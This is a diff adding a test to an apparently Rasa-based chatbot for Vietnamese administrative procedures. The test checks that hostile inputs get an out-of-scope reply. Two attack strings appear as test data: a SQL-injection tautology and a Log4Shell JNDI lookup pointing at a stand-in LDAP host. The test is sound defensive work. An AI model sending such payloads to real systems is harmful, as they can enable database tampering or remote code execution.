@@ -96,3 +96,18 @@ def test_an_unclear_message_about_a_matter_handled_elsewhere_says_who(
     assert [m["response"] for m in dispatcher.messages] == ["utter_handled_elsewhere"]
     assert SlotSet("procedure_code", None) in events
     assert events[-2:] == [ActiveLoop(None), FollowupAction("action_listen")]
+
+
+@pytest.mark.parametrize("text", ["' OR 'x'='x' -- khai sinh", "${jndi:ldap://x.example/a}"])
+def test_an_attack_string_gets_the_out_of_scope_reply_and_no_guesses(
+    domain: dict[str, Any], text: str
+) -> None:
+    dispatcher = CollectingDispatcher()
+    tracker = make_tracker(
+        text, intent="nlu_fallback", intent_ranking=[{"name": "ask_fee", "confidence": 0.4}]
+    )
+    events = asyncio.run(
+        AskAffirmation(catalogue=provider(CATALOGUE)).run(dispatcher, tracker, domain)
+    )
+    assert [m["response"] for m in dispatcher.messages] == ["utter_out_of_scope"]
+    assert events == [ActiveLoop(None), FollowupAction("action_listen")]
